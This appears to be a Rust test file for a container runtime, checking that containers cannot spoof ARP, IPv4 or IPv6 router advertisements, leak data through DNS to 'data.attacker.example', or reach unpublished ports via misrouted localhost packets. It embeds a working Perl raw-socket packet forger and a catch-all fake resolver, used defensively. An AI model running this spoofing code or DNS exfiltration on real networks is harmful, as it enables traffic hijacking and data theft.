//! Neighbours: a container on the same network, another host on the wire, and the way to the outside.

use std::os::unix::fs::PermissionsExt as _;
use std::path::PathBuf;
use std::process::Command;
use std::sync::atomic::{AtomicU32, Ordering};

use testkit::{World, eventually};

use crate::{TOOLS, sleeper, world};

/// Sends packets that say they come from somebody else: ARP answers for the victim's address, under the own and under the victim's
/// hardware address, an IPv4 packet from it, and an IPv6 router advertisement to all.
const FORGE: &str = r#"
my ($victim, $victim_mac) = (pack("C4", split /\./, $ARGV[0]), pack("H12", $ARGV[1] =~ s/://gr));
open my $f, "<", "/sys/class/net/eth0/address"; chomp(my $own = <$f>); my $mac = pack("H12", $own =~ s/://gr);
open $f, "<", "/sys/class/net/eth0/ifindex"; chomp(my $index = <$f>);
socket(my $wire, 17, 3, 0x0300) or die "socket: $!";
sub out { my $frame = shift;
    send($wire, $frame, 0, pack("S n i S C C a8", 17, 3, $index, 0, 0, 6, "\xff" x 6)) or print "send: $!\n"; }
my $all = "\xff" x 6;
for (1 .. 50) {
    for my $from ($mac, $victim_mac) { for my $sender ($mac, $victim_mac) {
        out($all . $from . pack("n", 0x806) . pack("n n C C n", 1, 0x800, 6, 4, 2) . $sender . $victim . $all . $victim);
    } }
    my $ip = pack("C C n n n C C n a4 a4", 0x45, 0, 28, 1, 0, 64, 17, 0, $victim, pack("C4", 255, 255, 255, 255));
    out($all . $mac . pack("n", 0x800) . $ip . pack("n n n n", 9, 9, 8, 0));
    my $ra = pack("C C n C C n N N", 134, 0, 0, 64, 0, 1800, 0, 0);
    my $six = pack("N n C C", 0x60000000, length $ra, 58, 255) . pack("H32", "fe80" . "0" x 27 . "1") . pack("H32", "ff02" . "0" x 27 . "1");
    out(pack("H12", "333300000001") . $mac . pack("n", 0x86dd) . $six . $ra);
    out($all . $mac . pack("n n", 0x8100, 7) . pack("n", 0x800) . $ip);
    select undef, undef, undef, 0.02;
}
print "sent\n";
"#;

/// Counts what arrives at the interface for five seconds, by protocol, unless it comes from the gateway or is addressed to us.
const LISTEN: &str = r#"
socket(my $wire, 17, 3, 0x0300) or die "socket: $!";
print "listening\n"; $| = 1;
my ($end, %heard) = (time + 5);
while (time < $end) {
    my $set = ""; vec($set, fileno $wire, 1) = 1;
    select($set, undef, undef, 0.2) or next;
    recv($wire, my $frame, 2048, 0);
    my $kind = sprintf "%04x", unpack "x12 n", $frame;
    # The host's own end of the wire speaks IPv6 for a moment; it advertises no router.
    next if $kind eq "86dd" && unpack("x54 C", $frame) != 134;
    $heard{$kind}++ if $frame =~ /^(\xff{6}|\x33\x33)/s;
}
print "heard $_ $heard{$_}\n" for sort keys %heard;
"#;

#[test]
fn a_neighbour_cannot_be_spoofed() {
    let world = world();
    world.hull(["network", "create", "n"]).success();
    sleeper(&world, "victim", &["--network", "n"]);
    let address = world.inspect("victim", "{{.NetworkSettings.Networks.n.IPAddress}}");
    let mac = world.inspect("victim", "{{.NetworkSettings.Networks.n.MacAddress}}");
    let forge = |flags: &[&str]| {
        let listen =
            [&["run", "--name", "ear", "--network", "n"], &TOOLS[..], &["busybox", "perl", "-e", LISTEN]];
        let ear = world.spawn(listen.concat());
        eventually("it listens", 20, || {
            world.hull(["logs", "ear"]).stdout.contains("listening").then_some(())
        });
        let attack = ["busybox", "perl", "-e", FORGE, &address, &mac];
        let run = [&["run", "--rm", "--network", "n"], flags, &TOOLS[..], &attack].concat();
        world.hull(run).success();
        let heard = ear.finish().success();
        world.hull(["rm", "ear"]).success();
        heard.stdout.lines().filter(|line| line.starts_with("heard")).collect::<Vec<_>>().join("\n")
    };
    let heard = forge(&[]);
    // Honest questions for addresses are all that is left.
    for forged in ["0800 5", "86dd", "8100"] {
        assert!(!heard.contains(forged), "{heard}");
    }
    let arp = heard.lines().find_map(|line| line.strip_prefix("heard 0806 ")).unwrap_or("0");
    assert!(arp.parse::<u32>().expect("a count") < 50, "{heard}");
    // Who may configure the network may do this: what the listener would have heard.
    let heard = forge(&["--cap-add", "NET_ADMIN"]);
    assert!(heard.contains("0806 ") && heard.contains("86dd ") && heard.contains("0800 "), "{heard}");
}

#[test]
fn nobody_believes_a_router() {
    let world = world();
    world.hull(["network", "create", "n"]).success();
    sleeper(&world, "web", &["--network", "n"]);
    // CVE-2020-13401.
    let settings =
        "cat /proc/sys/net/ipv6/conf/eth0/disable_ipv6 /proc/sys/net/ipv4/conf/eth0/accept_redirects";
    let seen = world.hull(["exec", "web", "sh", "-c", settings]).success();
    assert!(seen.text().starts_with('1'), "{seen}");
    let bridge = world.inspect("n", "{{.Id}}");
    let bridge = format!("/proc/sys/net/ipv6/conf/hb-{}", &bridge[..11]);
    let value =
        |name: &str| std::fs::read_to_string(format!("{bridge}/{name}")).expect("the bridge is there");
    assert_eq!((value("accept_ra").trim(), value("disable_ipv6").trim()), ("0", "1"));
}

/// Answers every question for a name with 1.2.3.4 and says what was asked.
const RESOLVER: &str = r#"
use Socket; $| = 1;
socket(my $s, AF_INET, SOCK_DGRAM, 0); bind($s, sockaddr_in(53, INADDR_ANY)) or die "bind: $!"; print "ready\n";
while (my $from = recv($s, my $q, 512, 0)) {
    my ($question) = substr($q, 12) =~ /^(.*?\0....)/s; print "asked ", $question =~ s/[^a-z0-9-]+/./gr, "\n";
    my $answer = substr($question, -4, 2) eq "\0\1" ? "\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4\1\2\3\4" : "";
    send($s, substr($q, 0, 2) . "\x81\x80\0\1\0" . chr(length $answer ? 1 : 0) . "\0\0\0\0" . $question . $answer, 0, $from);
}
"#;

#[test]
fn names_do_not_lead_out_of_an_internal_network() {
    let world = world();
    world.hull(["network", "create", "--internal", "inner"]).success();
    world.hull(["network", "create", "outer"]).success();
    let run = ["run", "-d", "--name", "resolver", "--stop-signal", "KILL", "--network", "outer"];
    world.hull([&run[..], &TOOLS, &["busybox", "perl", "-e", RESOLVER]].concat()).success();
    let resolver = world.inspect("resolver", "{{.NetworkSettings.Networks.outer.IPAddress}}");
    for (name, network) in [("near", "inner"), ("far", "outer")] {
        sleeper(&world, name, &["--network", network, "--dns", &resolver]);
    }
    let ask = |from: &str| {
        world.hull(["exec", from, "timeout", "8", "nslookup", "-type=a", "data.attacker.example"])
    };
    let heard = || world.hull(["logs", "resolver"]).stdout.matches("data.attacker").count();
    eventually("the resolver answers", 20, || ask("far").stdout.contains("1.2.3.4").then_some(()));
    // CVE-2024-29018: the question alone would carry data out.
    let before = heard();
    assert!(before > 0);
    let asked = ask("near");
    assert!(asked.status != Some(0) && !asked.stdout.contains("1.2.3.4"), "{asked}");
    assert_eq!(heard(), before, "{asked}");
    let routes = world.hull(["exec", "near", "ip", "route"]).success();
    assert!(!routes.stdout.contains("default"), "{routes}");
}

const HOST: &str = "198.51.100.1";

/// A host of its own: hull runs in a network namespace with a wire to another one, the neighbour's.
struct Wire {
    /// Goes before the namespace it works in.
    world: World,
    namespaces: Namespaces,
}

struct Namespaces {
    host: String,
    neighbour: String,
    script: PathBuf,
}

impl Wire {
    fn new() -> Self {
        static COUNTER: AtomicU32 = AtomicU32::new(0);
        let unique =
            format!("hull-attack-{}-{}", std::process::id(), COUNTER.fetch_add(1, Ordering::Relaxed));
        let (host, neighbour) = (format!("{unique}-host"), format!("{unique}-neighbour"));
        let script = std::env::temp_dir().join(&unique);
        let text = format!(
            "#!/bin/sh\nexec nsenter --net=/run/netns/{host} {} \"$@\"\n",
            env!("CARGO_BIN_EXE_hull")
        );
        std::fs::write(&script, text).expect("a fresh file");
        std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).expect("it is ours");
        let namespaces = Namespaces { host: host.clone(), neighbour: neighbour.clone(), script };
        let line = format!(
            "ip netns add {host} && ip netns add {neighbour} && \
             ip -n {host} link add up0 type veth peer name up0 netns {neighbour} && \
             ip -n {host} addr add {HOST}/24 dev up0 && ip -n {neighbour} addr add 198.51.100.2/24 dev up0 && \
             for n in {host} {neighbour}; do ip -n $n link set up0 up; ip -n $n link set lo up; done && \
             ip -n {host} route add default via 198.51.100.2 && ip -n {neighbour} route add 172.16.0.0/12 via {HOST}"
        );
        let output = Command::new("sh").args(["-c", &line]).output().expect("sh is part of Debian");
        assert!(output.status.success(), "{line}: {}", String::from_utf8_lossy(&output.stderr));
        let world = World::with_busybox(&namespaces.script.to_string_lossy());
        Self { world, namespaces }
    }

    /// Runs a shell line in the neighbour's namespace, or in the host's; what it printed.
    fn sh(&self, namespace: &str, line: &str) -> String {
        let mut enter = Command::new("nsenter");
        enter.arg(format!("--net=/run/netns/{namespace}")).args(["sh", "-c", line]);
        let output = enter.output().expect("nsenter is part of Debian");
        String::from_utf8_lossy(&output.stdout).trim().to_owned()
    }

    /// What HTTP says to the neighbour; nothing when it is not reached.
    fn fetch(&self, address: &str) -> String {
        self.get(&self.namespaces.neighbour, address)
    }

    fn get(&self, namespace: &str, address: &str) -> String {
        let script = r#"use IO::Socket::INET; my $s = IO::Socket::INET->new(PeerAddr => shift, Timeout => 2) or exit;
                        print $s "GET / HTTP/1.0\r\n\r\n"; local $/; print <$s> =~ s/.*\r\n\r\n//sr"#;
        self.sh(namespace, &format!("perl -e '{script}' {address}"))
    }
}

impl Drop for Namespaces {
    fn drop(&mut self) {
        for name in [&self.host, &self.neighbour] {
            let _ = Command::new("ip").args(["netns", "del", name]).status();
        }
        let _ = std::fs::remove_file(&self.script);
    }
}

#[test]
fn another_host_reaches_what_is_published_for_it_and_nothing_else() {
    let wire = Wire::new();
    let serve = "mkdir /www; echo web > /www/index.html; exec httpd -f -p 80 -h /www";
    let ports = ["-p", "127.0.0.1:8080:80", "-p", "8081:80"];
    let run = [&["run", "-d", "--name", "web", "--stop-signal", "KILL"], &ports[..]].concat();
    wire.world.hull([&run[..], &["busybox", "sh", "-c", serve]].concat()).success();
    eventually("the published port answers", 20, || {
        (wire.fetch(&format!("{HOST}:8081")) == "web").then_some(())
    });
    let local = wire.get(&wire.namespaces.host, "127.0.0.1:8080");
    assert_eq!(local, "web", "on the host itself it is reached");
    assert_eq!(wire.fetch(&format!("{HOST}:8080")), "");
    let address = wire.world.inspect("web", "{{.NetworkSettings.IPAddress}}");
    assert!(address.starts_with("172."), "the neighbour has a route there: {address}");
    for port in [80, 8080, 8081] {
        assert_eq!(wire.fetch(&format!("{address}:{port}")), "", "{port}");
    }
    // Packets for 127.0.0.1 over the wire: bridges have route_localnet.
    let misroute = format!(
        "echo 1 > /proc/sys/net/ipv4/conf/up0/route_localnet; \
         ip route del table local local 127.0.0.0/8 dev lo; ip route del table local local 127.0.0.1 dev lo; \
         ip route add 127.0.0.1 via {HOST} dev up0 src 198.51.100.2 && echo misrouted"
    );
    assert_eq!(wire.sh(&wire.namespaces.neighbour, &misroute), "misrouted");
    for port in [80, 8080, 8081] {
        assert_eq!(wire.fetch(&format!("127.0.0.1:{port}")), "", "{port}");
    }
}

#[test]
fn a_restart_brings_back_what_was_flushed() {
    let wire = Wire::new();
    let serve = "mkdir -p /www; echo web > /www/index.html; exec httpd -f -p 80 -h /www";
    let run = ["run", "-d", "--name", "web", "--stop-signal", "KILL", "-p", "8081:80"];
    wire.world.hull([&run[..], &["busybox", "sh", "-c", serve]].concat()).success();
    let answers = || (wire.fetch(&format!("{HOST}:8081")) == "web").then_some(());
    eventually("the published port answers", 20, answers);
    let address = wire.world.inspect("web", "{{.NetworkSettings.IPAddress}}");
    let guarded = || {
        let elements = wire.sh(&wire.namespaces.host, "nft list ruleset bridge");
        elements.contains(&format!("{address} . ")) && elements.contains(&format!(" . {address}"))
    };
    assert!(guarded());
    wire.sh(&wire.namespaces.host, "nft flush ruleset");
    assert!(answers().is_none() && !guarded());
    wire.world.hull(["restart", "-t", "0", "web"]).success();
    eventually("the published port answers again", 20, answers);
    assert!(guarded());
    assert_eq!(wire.fetch(&format!("{address}:80")), "");
}
